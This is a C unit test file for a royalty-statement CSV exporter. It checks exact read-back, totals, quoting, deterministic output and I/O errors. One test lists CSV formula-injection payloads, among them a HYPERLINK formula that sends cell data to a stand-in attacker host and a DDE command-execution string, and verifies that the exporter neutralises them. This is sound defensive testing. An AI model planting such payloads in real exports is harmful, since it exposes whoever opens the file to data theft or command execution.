/* test_render_csv.c — the CSV statement reads back exactly and adds up. */
#include "testutil.h"

#include <unistd.h>

#include "fairtrack/csv.h"
#include "fairtrack/digest.h"
#include "fairtrack/statement.h"

static char *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf;
	long n;

	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = malloc((size_t)n + 1);
	assert_non_null(buf);
	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
	buf[n] = '\0';
	fclose(f);
	*len = (size_t)n;
	return buf;
}

static struct ft_statement *sample(void)
{
	struct ft_statement *st;

	assert_int_equal(ft_statement_sample(&st, 0, 30, NULL), 0);
	return st;
}

static ft_amount field_amount(const struct ft_csv_field *f)
{
	char text[64];
	ft_amount a;

	ft_csv_unquote(text, sizeof(text), f);
	assert_int_equal(ft_amount_parse(&a, text, strlen(text), NULL), 0);
	return a;
}

static void test_csv_lines_read_back_exactly_and_sum_to_total(void **state)
{
	struct ft_statement *st = sample();
	struct ft_statement_summary s;
	struct ft_csv_field f[32];
	struct ft_lines it;
	char path[600], text[256];
	const char *line;
	size_t len, n, row = 0;
	ft_amount sum = 0, summary_royalties = -1, store_sum = 0;
	char *buf;

	snprintf(path, sizeof(path), "%s/stmt.csv", testutil_tmpdir());
	assert_int_equal(ft_render_csv(st, path, NULL), 0);
	assert_int_equal(ft_statement_summarize(st, &s, NULL), 0);
	buf = slurp(path, &len);
	ft_lines_init(&it, buf, len);
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
	assert_int_equal(n, 17);
	assert_int_equal(ft_csv_find_column(f, n, "royalty_exact"), 16);
	while (ft_lines_next(&it, &line, &len, NULL)) {
		const struct ft_statement_line *l = &st->lines[row];

		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
		assert_int_equal(n, 17);
		ft_csv_unquote(text, sizeof(text), &f[3]);
		assert_string_equal(text, l->track);
		ft_csv_unquote(text, sizeof(text), &f[7]);
		assert_string_equal(text, l->store);
		ft_csv_unquote(text, sizeof(text), &f[12]);
		assert_int_equal(strtoll(text, NULL, 10), l->units);
		assert_true(field_amount(&f[13]) == l->receipts);
		assert_true(field_amount(&f[14]) == l->rate);
		assert_true(field_amount(&f[15]) == ft_statement_printed(l->royalty, 2));
		assert_true(field_amount(&f[16]) == l->royalty);
		ft_csv_unquote(text, sizeof(text), &f[11]);
		assert_string_equal(text, l->non_attributable ? "non-attributable" : "usage");
		sum += field_amount(&f[15]);
		row++;
	}
	assert_int_equal(row, st->n_lines);
	assert_true(sum == s.p_royalties);
	free(buf);

	/* The summary file: its royalties are the sum of the lines, and the
	 * store rows add up to it too. */
	snprintf(path, sizeof(path), "%s/stmt.summary.csv", testutil_tmpdir());
	buf = slurp(path, &len);
	ft_lines_init(&it, buf, len);
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	while (ft_lines_next(&it, &line, &len, NULL)) {
		char section[32], key[64];

		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
		assert_int_equal(n, 6);
		ft_csv_unquote(section, sizeof(section), &f[0]);
		ft_csv_unquote(key, sizeof(key), &f[1]);
		if (strcmp(section, "balance") == 0 && strcmp(key, "royalties") == 0)
			summary_royalties = field_amount(&f[5]);
		if (strcmp(section, "balance") == 0 && strcmp(key, "payable") == 0)
			assert_true(field_amount(&f[5]) == s.p_payable);
		if (strcmp(section, "store") == 0)
			store_sum += field_amount(&f[5]);
	}
	assert_true(summary_royalties == sum);
	assert_true(store_sum == sum);
	free(buf);
	ft_statement_free(st);
}

static void test_csv_quotes_commas_and_quotes(void **state)
{
	struct ft_statement *st;
	struct ft_statement_line l = {.track = "Hello, \"World\"",
				      .store = " Spotify",
				      .territory = "FR",
				      .royalty = FT_AMOUNT_ONE};
	struct ft_csv_field f[32];
	char path[600], text[128];
	struct ft_lines it;
	const char *line;
	size_t len, n;
	char *buf;

	assert_int_equal(ft_statement_new(&st, NULL), 0);
	assert_int_equal(ft_statement_add_line(st, &l, NULL), 0);
	snprintf(path, sizeof(path), "%s/quote.csv", testutil_tmpdir());
	assert_int_equal(ft_render_csv(st, path, NULL), 0);
	buf = slurp(path, &len);
	ft_lines_init(&it, buf, len);
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
	ft_csv_unquote(text, sizeof(text), &f[3]);
	assert_string_equal(text, "Hello, \"World\"");
	ft_csv_unquote(text, sizeof(text), &f[7]);
	assert_string_equal(text, " Spotify");
	assert_false(ft_lines_next(&it, &line, &len, NULL));
	free(buf);
	ft_statement_free(st);
}

/* What docs/STATEMENTS.md tells a reader to do: drop one leading apostrophe
 * from a text field. */
static void read_text(char *dst, size_t cap, const struct ft_csv_field *f)
{
	ft_csv_unquote(dst, cap, f);
	if (dst[0] == '\'')
		memmove(dst, dst + 1, strlen(dst));
}

static int formula_start(const char *text)
{
	return text[0] && strchr("=+-@\t\r", text[0]) != NULL;
}

/*
 * Texts that a spreadsheet would run as formulas (track titles, stores and
 * names come from reports and catalogues) are written with a leading
 * apostrophe and read back exactly; numbers, negative ones included, are
 * written as plain numbers.
 */
static void test_csv_neutralises_formulas_but_not_negative_numbers(void **state)
{
	static const char *const hostile[] = {
	    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	    "+1+cmd|' /C calc'!A0",
	    "-2+3",
	    "@SUM(1,2)",
	    "'quoted already",
	    "Plain title",
	};
	struct ft_statement *st;
	struct ft_statement_line l;
	struct ft_csv_field f[32];
	char path[600], text[256], raw[256];
	struct ft_lines it;
	const char *line;
	size_t len, n, i, row = 0;
	char *buf;

	(void)state;
	assert_int_equal(ft_statement_new(&st, NULL), 0);
	assert_int_equal(ft_statement_set_header(st, "ST-1", "=label()", "p1", "@Payee", "-acct",
						 "2026-10-15", "EUR", NULL),
			 0);
	for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		memset(&l, 0, sizeof(l));
		l.track = hostile[i];
		l.release = hostile[(i + 1) % 6];
		l.store = hostile[(i + 2) % 6];
		l.commercial_model = "subscription";
		l.use_type = hostile[(i + 3) % 6];
		memcpy(l.territory, "GB", 3);
		/* A return: negative units, receipts and royalty. */
		l.units = -3;
		l.receipts = -FT_AMOUNT_ONE * 3 / 2;
		l.rate = FT_AMOUNT_ONE / 10;
		l.royalty = -FT_AMOUNT_ONE * 15 / 100;
		assert_int_equal(ft_statement_add_line(st, &l, NULL), 0);
	}
	snprintf(path, sizeof(path), "%s/formula.csv", testutil_tmpdir());
	assert_int_equal(ft_render_csv(st, path, NULL), 0);
	buf = slurp(path, &len);
	ft_lines_init(&it, buf, len);
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	while (ft_lines_next(&it, &line, &len, NULL)) {
		const struct ft_statement_line *sl = &st->lines[row++];
		static const int texts[] = {0, 3, 4, 5, 6, 7, 8, 9, 10, 11};

		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
		assert_int_equal(n, 17);
		/* No text field starts a formula as a spreadsheet reads it. */
		for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
			ft_csv_unquote(raw, sizeof(raw), &f[texts[i]]);
			assert_false(formula_start(raw));
		}
		read_text(text, sizeof(text), &f[3]);
		assert_string_equal(text, sl->track);
		read_text(text, sizeof(text), &f[5]);
		assert_string_equal(text, sl->release);
		read_text(text, sizeof(text), &f[7]);
		assert_string_equal(text, sl->store);
		read_text(text, sizeof(text), &f[10]);
		assert_string_equal(text, sl->use_type);
		ft_csv_unquote(raw, sizeof(raw), &f[3]);
		if (formula_start(sl->track) || sl->track[0] == '\'')
			assert_int_equal(raw[0], '\'');
		else
			assert_string_equal(raw, sl->track);
		/* Numbers stay numbers: "-3", "-1.50", "-0.15". */
		ft_csv_unquote(raw, sizeof(raw), &f[12]);
		assert_string_equal(raw, "-3");
		ft_csv_unquote(raw, sizeof(raw), &f[13]);
		assert_string_equal(raw, "-1.50");
		assert_true(field_amount(&f[13]) == l.receipts);
		assert_true(field_amount(&f[15]) == l.royalty);
		assert_true(field_amount(&f[16]) == l.royalty);
	}
	assert_int_equal(row, st->n_lines);
	free(buf);

	/* The summary: the names read back, the negative royalties total is a
	 * number. */
	snprintf(path, sizeof(path), "%s/formula.summary.csv", testutil_tmpdir());
	buf = slurp(path, &len);
	ft_lines_init(&it, buf, len);
	assert_true(ft_lines_next(&it, &line, &len, NULL));
	while (ft_lines_next(&it, &line, &len, NULL)) {
		char section[32], key[64];

		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
		ft_csv_unquote(section, sizeof(section), &f[0]);
		ft_csv_unquote(key, sizeof(key), &f[1]);
		ft_csv_unquote(raw, sizeof(raw), &f[2]);
		assert_false(formula_start(raw));
		read_text(text, sizeof(text), &f[2]);
		if (strcmp(section, "statement") == 0 && strcmp(key, "payee_name") == 0)
			assert_string_equal(text, "@Payee");
		if (strcmp(section, "statement") == 0 && strcmp(key, "label") == 0)
			assert_string_equal(text, "=label()");
		if (strcmp(section, "statement") == 0 && strcmp(key, "account") == 0)
			assert_string_equal(text, "-acct");
		if (strcmp(section, "balance") == 0 && strcmp(key, "royalties") == 0) {
			ft_csv_unquote(raw, sizeof(raw), &f[5]);
			assert_string_equal(raw, "-0.90");
		}
	}
	free(buf);
	ft_statement_free(st);
}

static void test_csv_is_byte_identical_twice(void **state)
{
	struct ft_statement *st = sample();
	char a[600], b[600], ha[FT_SHA256_HEX_LEN + 1], hb[FT_SHA256_HEX_LEN + 1];

	snprintf(a, sizeof(a), "%s/twice-a.csv", testutil_tmpdir());
	snprintf(b, sizeof(b), "%s/twice-b.csv", testutil_tmpdir());
	assert_int_equal(ft_render_csv(st, a, NULL), 0);
	assert_int_equal(ft_render_csv(st, b, NULL), 0);
	assert_int_equal(ft_sha256_file(ha, NULL, a, NULL), 0);
	assert_int_equal(ft_sha256_file(hb, NULL, b, NULL), 0);
	assert_string_equal(ha, hb);
	snprintf(a, sizeof(a), "%s/twice-a.summary.csv", testutil_tmpdir());
	snprintf(b, sizeof(b), "%s/twice-b.summary.csv", testutil_tmpdir());
	assert_int_equal(ft_sha256_file(ha, NULL, a, NULL), 0);
	assert_int_equal(ft_sha256_file(hb, NULL, b, NULL), 0);
	assert_string_equal(ha, hb);
	ft_statement_free(st);
}

/*
 * The sample's summary, figure by figure, as reviewed when it was written
 * (tests/data/statements/sample-0-30.summary.csv): a change to rounding,
 * ordering or the sample shows up here first.  Regenerate deliberately with
 * the rendered file when the change is intended.
 */
static void test_csv_summary_matches_the_reviewed_sample(void **state)
{
	struct ft_statement *st = sample();
	char path[600];
	char *got, *want;
	size_t got_len, want_len;

	snprintf(path, sizeof(path), "%s/golden.csv", testutil_tmpdir());
	assert_int_equal(ft_render_csv(st, path, NULL), 0);
	snprintf(path, sizeof(path), "%s/golden.summary.csv", testutil_tmpdir());
	got = slurp(path, &got_len);
	want = slurp("tests/data/statements/sample-0-30.summary.csv", &want_len);
	assert_string_equal(got, want);
	free(got);
	free(want);
	ft_statement_free(st);
}

static void test_csv_unwritable_path_is_an_io_error(void **state)
{
	struct ft_statement *st = sample();
	struct ft_error err;

	assert_int_equal(ft_render_csv(st, "/nonexistent/dir/s.csv", &err), FT_EIO);
	assert_non_null(strstr(err.message, "/nonexistent/dir/s.csv"));
	assert_int_equal(access("/nonexistent/dir/s.csv.part", F_OK), -1);
	ft_statement_free(st);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_csv_lines_read_back_exactly_and_sum_to_total),
	    cmocka_unit_test(test_csv_quotes_commas_and_quotes),
	    cmocka_unit_test(test_csv_neutralises_formulas_but_not_negative_numbers),
	    cmocka_unit_test(test_csv_is_byte_identical_twice),
	    cmocka_unit_test(test_csv_summary_matches_the_reviewed_sample),
	    cmocka_unit_test(test_csv_unwritable_path_is_an_io_error),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
